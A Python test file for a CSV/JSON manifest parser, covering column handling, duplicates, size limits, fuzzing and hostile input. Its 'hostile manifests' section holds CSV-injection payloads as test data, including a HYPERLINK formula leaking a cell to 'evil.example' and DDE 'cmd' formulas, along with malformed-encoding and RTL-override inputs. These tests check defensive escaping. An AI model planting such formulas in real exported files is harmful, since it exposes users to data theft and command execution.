"""aistudios_export.manifests: a manifest's bytes to rows, rejections, duplicates and bounds.

Everything here is checked on bytes; reading and writing S3 is tests/unit/test_batches.py's.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aistudios_export.errors import ConfigurationError, ManifestInvalid, readable_cause
from aistudios_export.manifests import MAX_MANIFEST_BYTES, MAX_ROWS, parse_manifest
from aistudios_export.naming import is_export_id

P1 = "65fa6b07dca2e367461a2925"
P2 = "65fa6b07dca2e367461a2926"
P3 = "65fa6b07dca2e367461a2927"
DEFAULTS = {"pollSeconds": "15", "timeoutSeconds": "1800", "stallSeconds": "600"}


def parse(text: str | bytes, key: str = "manifests/m.csv", **kwargs: Any) -> Any:
    data = text.encode() if isinstance(text, str) else text
    return parse_manifest(data, key, defaults=DEFAULTS, **kwargs)


def test_csv_columns_in_any_order_and_subset() -> None:
    manifest = parse(f"resolution,projectId\n720,{P1}\n,{P2}\n")
    assert [i["input"] for i in manifest.items] == [
        {
            "projectId": P1,
            "resolution": "720",
            "pollSeconds": 15,
            "timeoutSeconds": 1800,
            "stallSeconds": 600,
        },
        {
            "projectId": P2,
            "resolution": "1080",  # an empty cell is "not given": the default applies
            "pollSeconds": 15,
            "timeoutSeconds": 1800,
            "stallSeconds": 600,
        },
    ]
    assert manifest.rows == 2 and manifest.rejected == () and manifest.duplicates == 0
    assert all(is_export_id(i["name"]) for i in manifest.items)


def test_every_csv_column() -> None:
    [item] = parse(f"projectId,resolution,workspaceId,outputPrefix\n{P1},4K,ws_1,team-a\n").items
    assert item["input"]["workspaceId"] == "ws_1"
    assert item["input"]["outputPrefix"] == "team-a/"
    assert item["input"]["resolution"] == "4k"
    assert item["name"].startswith(f"{P1}-4k-")


@pytest.mark.parametrize("written", ["team-a", "team-a/", "team-a/jan", "team-a/jan/"])
def test_a_rows_output_prefix_ends_in_exactly_one_slash(written: str) -> None:
    [from_csv] = parse(f"projectId,outputPrefix\n{P1},{written}\n").items
    body = json.dumps([{"projectId": P1, "outputPrefix": written}])
    [from_json] = parse(body, key="manifests/m.json").items
    expected = written.removesuffix("/") + "/"
    assert from_csv["input"]["outputPrefix"] == from_json["input"]["outputPrefix"] == expected


def test_a_prefix_with_and_without_its_slash_is_one_export() -> None:
    manifest = parse(f"projectId,outputPrefix\n{P1},team-a\n{P1},team-a/\n")
    assert [i["input"]["outputPrefix"] for i in manifest.items] == ["team-a/"]
    assert manifest.duplicates == 1


def test_bom_crlf_blank_lines_and_padding_are_tolerated() -> None:
    plain = parse(f"projectId,resolution\n{P1},720\n{P2},480\n")
    messy = parse(
        f"\ufeff projectId , Resolution \r\n\r\n {P1} , 720 \r\n{P2},480\r\n\r\n".encode()
    )
    assert [i["input"] for i in messy.items] == [i["input"] for i in plain.items]
    assert messy.rows == 2


def test_bad_rows_are_reported_with_their_field_while_good_rows_proceed() -> None:
    manifest = parse(f"projectId,resolution\n{P1},720\nnot-an-id,1080\n{P2},8k\n{P3},480,extra\n")
    assert [i["input"]["projectId"] for i in manifest.items] == [P1]
    assert [r.to_dict() for r in manifest.rejected] == [
        {
            "row": 2,
            "projectId": "not-an-id",
            "error": "invalid request: projectId: must be a 24-character hexadecimal ObjectId",
        },
        {
            "row": 3,
            "projectId": P2,
            "error": "invalid request: resolution: must be one of 4k | 1080 | 720 | 480",
        },
        {
            "row": 4,
            "projectId": P3,
            "error": "the row has 3 fields but the header names 2 columns",
        },
    ]


def test_duplicate_rows_are_exported_once() -> None:
    manifest = parse(f"projectId,resolution\n{P1},720\n{P1.upper()},720\n{P1},1080\n{P1}, 720\n")
    assert [i["input"]["resolution"] for i in manifest.items] == ["720", "1080"]
    assert manifest.duplicates == 2
    assert manifest.rows == 4


def test_names_depend_on_the_bytes_and_the_scope() -> None:
    text = f"projectId\n{P1}\n"
    [a] = parse(text).items
    [b] = parse(text).items
    [c] = parse(text + "\n").items  # other bytes: another manifest
    [d] = parse(text, scope="2026-01-02T03:00:00Z").items
    assert a == b
    assert a["input"] == c["input"] == d["input"]
    assert len({a["name"], c["name"], d["name"]}) == 3
    assert parse(text).sha256 == parse(text).sha256 != parse(text + "\n").sha256


def test_json_manifest_takes_request_objects() -> None:
    body = [
        {"projectId": P1, "resolution": "720", "webhookUrl": "https://hooks.example.com/x"},
        {"projectId": P2, "pollSeconds": 5},
        {"projectId": P1, "resolution": "720", "webhookUrl": "https://hooks.example.com/x"},
        {"projectId": P3, "colour": "red"},
        "not an object",
    ]
    manifest = parse(json.dumps(body), key="manifests/m.json")
    assert [i["input"]["projectId"] for i in manifest.items] == [P1, P2]
    assert manifest.items[0]["input"]["webhookUrl"] == "https://hooks.example.com/x"
    assert manifest.items[1]["input"]["pollSeconds"] == 5
    assert manifest.duplicates == 1
    assert [(r.row, r.error) for r in manifest.rejected] == [
        (4, "invalid request: unknown field(s): colour"),
        (5, "the request must be a JSON object"),
    ]


def test_json_with_a_bom() -> None:
    manifest = parse(("\ufeff" + json.dumps([{"projectId": P1}])).encode(), key="x/m.JSON")
    assert len(manifest.items) == 1


@pytest.mark.parametrize(
    ("data", "key", "message"),
    [
        (b"", "m.csv", "manifest m.csv is empty"),
        (b" \r\n\n", "m.csv", "manifest m.csv is empty"),
        (b"\xef\xbb\xbf", "m.json", "manifest m.json is empty"),
        (b"projectId,resolution\r\n", "m.csv", "manifest m.csv has no rows"),
        (
            f"{P1},720\n".encode(),
            "m.csv",
            "manifest m.csv has no header row: the first line must name the columns (some of "
            f"projectId,resolution,workspaceId,outputPrefix), but it is '{P1},720'",
        ),
        (
            b"projectId,resolution,priority\n",
            "m.csv",
            "manifest m.csv has unknown column(s) 'priority'; the columns may be "
            "projectId,resolution,workspaceId,outputPrefix",
        ),
        (b"projectId,\n", "m.csv", "manifest m.csv has unknown column(s) ''"),
        (b"projectId,ProjectID\n", "m.csv", "manifest m.csv names column(s) projectId twice"),
        (b"resolution\n720\n", "m.csv", "manifest m.csv has no projectId column (it is required)"),
        (
            b"projectId\n65fa6b07dca2e367461a2925\n\xe9t\xe9\n",
            "m.csv",
            "manifest m.csv is not UTF-8 text: byte 0xe9 at offset 35 cannot be decoded "
            "(save the file as UTF-8)",
        ),
        (
            b'{"projectId": "x"}',
            "m.json",
            "manifest m.json must be a JSON array of request objects, not a JSON object",
        ),
        (b"[{", "m.json", "manifest m.json is not valid JSON: Expecting property name"),
        (b"[]", "m.json", "manifest m.json has no rows"),
        (b"projectId\n", "m.txt", "manifest m.txt: the file name must end in .csv or .json"),
        (
            b"projectId\nnope\n",
            "m.csv",
            "manifest m.csv has no valid row: row 1: invalid request: projectId: must be a "
            "24-character hexadecimal ObjectId",
        ),
    ],
)
def test_unusable_manifests_fail_clearly(data: bytes, key: str, message: str) -> None:
    with pytest.raises(ManifestInvalid) as raised:
        parse_manifest(data, key, defaults=DEFAULTS)
    assert str(raised.value).startswith(message)


def test_size_and_row_bounds() -> None:
    with pytest.raises(ManifestInvalid, match=f"at most {MAX_MANIFEST_BYTES} are allowed"):
        parse(b"projectId\n" + b" " * MAX_MANIFEST_BYTES)
    rows = "".join(f"{i:024x}\n" for i in range(MAX_ROWS + 1))
    with pytest.raises(ManifestInvalid, match=f"has more than {MAX_ROWS} rows"):
        parse("projectId\n" + rows)
    with pytest.raises(ManifestInvalid, match=f"has more than {MAX_ROWS} rows"):
        parse(json.dumps([{"projectId": P1}] * (MAX_ROWS + 1)), key="m.json")
    assert len(parse("projectId\n" + rows[: 25 * MAX_ROWS]).items) == MAX_ROWS


def test_many_rejections_are_summarised_in_the_message() -> None:
    with pytest.raises(ManifestInvalid, match=r"row 5: .*; and 2 more$"):
        parse("projectId\n" + "x\n" * 7)


def test_readable_cause() -> None:
    lambda_cause = json.dumps({"errorMessage": "it broke", "errorType": "X", "stackTrace": []})
    assert readable_cause(lambda_cause) == "it broke"
    assert readable_cause("plain words") == "plain words"
    assert readable_cause('["json", "list"]') == '["json", "list"]'
    assert readable_cause(None) is None
    assert readable_cause("") is None


# --- hostile manifests -------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may take for a formula at the start of a cell (OWASP, CSV injection)."""
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON value: keys and values, however deep."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def assert_safe_to_show(value: Any, longest: int = 1000) -> None:
    """No string starts a formula, is long, or holds what a terminal or UTF-8 cannot show."""
    for text in strings(value):
        assert not text.startswith(FORMULA_STARTS), text
        assert text.isprintable(), text
        assert len(text) <= longest, text[:100]
        text.encode()


def test_formula_cells_are_never_echoed_as_formulas() -> None:
    columns = "projectId,resolution,workspaceId,outputPrefix"
    cells = [f'"{f.replace(chr(34), chr(34) * 2)}"' for f in FORMULAS]
    lines = [f"{c},{c},{c},{c}" for c in cells]
    lines += [f"{P1},{c},{c},{c}" for c in cells]
    manifest = parse("\n".join([columns, f"{P1},720", *lines]) + "\n")
    assert len(manifest.items) == 1
    rejected = [r.to_dict() for r in manifest.rejected]
    assert len(rejected) == 2 * len(FORMULAS)
    assert_safe_to_show(rejected)
    assert rejected[0]["projectId"] == """'=HYPERLINK("http://evil.example/?x="&A1,"click")"""
    assert rejected[2]["projectId"] == "'-2+3"
    body = [{"projectId": f, f: f, "workspaceId": f} for f in FORMULAS] + [{"projectId": P1}]
    from_json = [r.to_dict() for r in parse(json.dumps(body), key="m.json").rejected]
    assert_safe_to_show(from_json)
    assert [r["projectId"] for r in from_json[4:]] == ["\\t=1+1", "\\r=1+1"]


@pytest.mark.parametrize(
    ("data", "key", "message"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "m.json", "manifest m.json is nested too deeply"),
        (
            b'[{"projectId": ' * 5_000 + b"1" + b"}]" * 5_000,
            "m.json",
            "manifest m.json is nested too deeply",
        ),
        # A lone surrogate, encoded: no UTF-8 decoder accepts it.
        (
            b"projectId\n\xed\xa0\x80\n",
            "m.csv",
            "manifest m.csv is not UTF-8 text: byte 0xed at offset 10 cannot be decoded",
        ),
        (
            b"\xff" + b"[]",
            "m.json",
            "manifest m.json is not UTF-8 text: byte 0xff at offset 0 cannot be decoded",
        ),
        (
            f'projectId\n{P1}\n"{"A" * 200_000}"\n'.encode(),
            "m.csv",
            "manifest m.csv is not valid CSV at line 3: field larger than field limit (131072)",
        ),
        (b"[1, 2]", "m.json", "manifest m.json has no valid row: row 1: the request must be"),
    ],
)
def test_hostile_manifests_fail_as_a_whole_clearly(data: bytes, key: str, message: str) -> None:
    with pytest.raises(ManifestInvalid) as raised:
        parse_manifest(data, key, defaults=DEFAULTS)
    assert str(raised.value).startswith(message)
    assert len(str(raised.value)) < 1000


def test_a_long_or_odd_header_is_quoted_short_and_escaped() -> None:
    for header, shown in [
        ("projectId," + "x" * 10_000, "'" + "x" * 40 + "...'"),
        ("projectId,a\x00b", "'a\\x00b'"),
        ("projectId,\u202egnp.exe", "'\\u202egnp.exe'"),
    ]:
        with pytest.raises(ManifestInvalid) as raised:
            parse(header + "\n")
        assert str(raised.value) == (
            f"manifest manifests/m.csv has unknown column(s) {shown}; the columns may be "
            "projectId,resolution,workspaceId,outputPrefix"
        )
    with pytest.raises(ManifestInvalid) as raised:
        parse("\x1b[2J" + "y" * 10_000 + "\n")
    assert str(raised.value).endswith("but it is '\\x1b[2J" + "y" * 33 + "...'")


def test_a_huge_integer_is_a_bad_field_of_its_row() -> None:
    huge = "9" * 5_000
    text = f'[{{"projectId": "{P1}", "pollSeconds": {huge}}}, {{"projectId": "{P2}"}}, -{huge}]'
    manifest = parse(text, key="m.json")
    assert [i["input"]["projectId"] for i in manifest.items] == [P2]
    assert [r.to_dict() for r in manifest.rejected] == [
        {
            "row": 1,
            "projectId": P1,
            "error": "invalid request: pollSeconds: must be a whole number of seconds from 0 to "
            "900",
        },
        {"row": 3, "error": "the request must be a JSON object"},
    ]


def test_nul_bytes_and_lone_surrogates_are_bad_fields_shown_escaped() -> None:
    csv_manifest = parse(f"projectId,workspaceId\n{P1},a\x00b\nab\x00cd\n{P2}\n")
    assert [r.to_dict() for r in csv_manifest.rejected] == [
        {
            "row": 1,
            "projectId": P1,
            "error": "invalid request: workspaceId: must be letters, digits, _ or -, 1-64",
        },
        {
            "row": 2,
            "projectId": "ab\\x00cd",
            "error": "invalid request: projectId: must be a 24-character hexadecimal ObjectId",
        },
    ]
    text = (
        f'[{{"projectId": "\\ud800x"}}, {{"projectId": "{P1}", "\\udfff\\u0000": 1}},'
        f' {{"projectId": "{P2}", "workspaceId": "\\ud800"}}, {{"projectId": "{P3}"}}]'
    )
    json_manifest = parse(text, key="m.json")
    assert [r.to_dict() for r in json_manifest.rejected] == [
        {
            "row": 1,
            "projectId": "\\ud800x",
            "error": "invalid request: projectId: must be a 24-character hexadecimal ObjectId",
        },
        {"row": 2, "projectId": P1, "error": "invalid request: unknown field(s): \\udfff\\x00"},
        {
            "row": 3,
            "projectId": P2,
            "error": "invalid request: workspaceId: must be letters, digits, _ or -, 1-64",
        },
    ]
    assert_safe_to_show([r.to_dict() for r in json_manifest.rejected])


def test_a_rows_error_quotes_only_a_short_excerpt_of_its_fields() -> None:
    many = {f"field{i}": 1 for i in range(100)}
    body = [
        {"projectId": P1, "k" * 100_000: 1},
        {"projectId": P2, **many},
        {"projectId": P3, "\x00" * 100_000: 1},
        {"projectId": P3},
    ]
    [long_key, many_keys, odd_key] = parse(json.dumps(body), key="m.json").rejected
    assert long_key.error == f"invalid request: unknown field(s): {'k' * 40}..."
    # The excerpt's bound counts the escaped text.
    assert odd_key.error == f"invalid request: unknown field(s): {'\\x00' * 10}..."
    assert many_keys.error == (
        "invalid request: unknown field(s): field0, field1, field10, field11, field12 and 95 more"
    )


def test_a_too_long_project_id_is_not_echoed() -> None:
    [rejection] = parse(f"projectId\n{P1}\n{'=' * 65}\n").rejected
    assert rejection.to_dict() == {
        "row": 2,
        "error": "invalid request: projectId: must be a 24-character hexadecimal ObjectId",
    }


@pytest.mark.parametrize("key", ["m.csv", "m.json"])
def test_a_50_mb_or_100_000_row_manifest_is_refused_naming_the_limit(key: str) -> None:
    with pytest.raises(ManifestInvalid) as raised:
        parse(b"x" * (50 * 1024 * 1024), key=key)
    assert str(raised.value) == (
        f"manifest {key} is 52428800 bytes; at most {MAX_MANIFEST_BYTES} are allowed "
        "(split it into several files)"
    )
    rows = (
        "projectId\n" + "".join(f"{i:024x}\n" for i in range(100_000))
        if key == "m.csv"
        else json.dumps([{"projectId": f"{i:024x}"} for i in range(100_000)])
    )
    assert len(rows) <= MAX_MANIFEST_BYTES
    with pytest.raises(ManifestInvalid) as raised:
        parse(rows, key=key)
    assert str(raised.value) == (
        f"manifest {key} has more than {MAX_ROWS} rows (split it into several files)"
    )


# Text made of what manifests are made of, and of what breaks parsers.
CSV_ALPHABET = st.sampled_from(
    [
        *(",", '"', "\n", "\r", "\t", " ", "\x00", "=", "+", "-", "@", "\ufeff", "\u202e", "é"),
        *("projectId", "resolution", "workspaceId", "outputPrefix", P1, "720", "4k", "team-a/"),
    ]
)
JSON_SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=30)
    | st.sampled_from([P1, "720", "4k", "=1+1", "\ud800", "9" * 5000])
)
JSON_KEYS = st.sampled_from(sorted(["projectId", "resolution", "pollSeconds", "webhookUrl"])) | (
    st.text(max_size=10)
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(JSON_KEYS, inner, max_size=5),
    max_leaves=20,
)
JSON_TOKENS = st.sampled_from(
    [
        *("[", "]", "{", "}", ",", ":", '"', "\\", "\\ud800", "\\u0000", "1", "9" * 5000, "-"),
        *("e9", "1e999", "NaN", "Infinity", "null", "true", '"projectId"', f'"{P1}"', " ", "\n"),
    ]
)


def assert_manifest_or_invalid(data: bytes, key: str) -> None:
    """Any bytes give a manifest of valid, named rows, or ManifestInvalid; never another error."""
    try:
        manifest = parse_manifest(data, key, defaults=DEFAULTS)
    except ManifestInvalid as e:
        # It quotes at most five rows' errors.
        assert_safe_to_show(str(e), longest=5000)
        return
    assert manifest.items and all(is_export_id(i["name"]) for i in manifest.items)
    assert_safe_to_show([r.to_dict() for r in manifest.rejected])


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=500))
def test_any_bytes_give_a_manifest_or_manifest_invalid(data: bytes) -> None:
    for key in ("m.csv", "m.json"):
        assert_manifest_or_invalid(data, key)


@settings(max_examples=200, deadline=None)
@given(st.lists(CSV_ALPHABET, max_size=60))
def test_any_csv_ish_text_is_a_manifest_or_manifest_invalid(parts: list[str]) -> None:
    text = "projectId,resolution\n" + "".join(parts)
    assert_manifest_or_invalid(text.encode("utf-8", "surrogatepass"), "m.csv")


@settings(max_examples=200, deadline=None)
@given(JSON_VALUES)
def test_any_json_value_is_a_manifest_or_manifest_invalid(value: Any) -> None:
    assert_manifest_or_invalid(json.dumps(value).encode(), "m.json")
    rows = value if isinstance(value, list) else [value]
    assert_manifest_or_invalid(json.dumps([{"projectId": P1}, *rows]).encode(), "m.json")


@settings(max_examples=200, deadline=None)
@given(st.lists(JSON_TOKENS, max_size=40))
def test_any_json_ish_text_is_a_manifest_or_manifest_invalid(tokens: list[str]) -> None:
    assert_manifest_or_invalid("".join(tokens).encode(), "m.json")


# --- which rows are one export --------------------------------------------------------------


def names(data: bytes, key: str, **options: str) -> list[str]:
    return [i["name"] for i in parse_manifest(data, key, defaults=DEFAULTS, **options).items]


def test_by_default_a_row_is_one_export_only_within_its_own_manifest() -> None:
    monday = names(f"projectId,resolution\n{P1},720\n".encode(), "monday.csv")
    tuesday = names(f"resolution,projectId\n720,{P1}\n".encode(), "tuesday.csv")
    assert monday != tuesday


def test_with_request_identity_the_same_request_in_any_manifest_is_one_export() -> None:
    monday = names(f"projectId,resolution\n{P1},720\n".encode(), "a.csv", row_identity="request")
    tuesday = names(
        f'[{{"resolution": "720", "projectId": "{P1}"}}]'.encode(), "b.json", row_identity="request"
    )
    assert monday == tuesday
    # Another field (here the resolution) is another export; a schedule's run is another export.
    other = names(f"projectId\n{P1}\n".encode(), "c.csv", row_identity="request")
    assert other != monday
    rerun = names(
        f"projectId,resolution\n{P1},720\n".encode(),
        "a.csv",
        row_identity="request",
        scope="2026-01-02T03:00:00Z",
    )
    assert rerun != monday


def test_an_unknown_row_identity_is_a_configuration_error() -> None:
    with pytest.raises(ConfigurationError, match="must be one of manifest, request, not 'file'"):
        parse_manifest(f"projectId\n{P1}\n".encode(), "a.csv", row_identity="file")
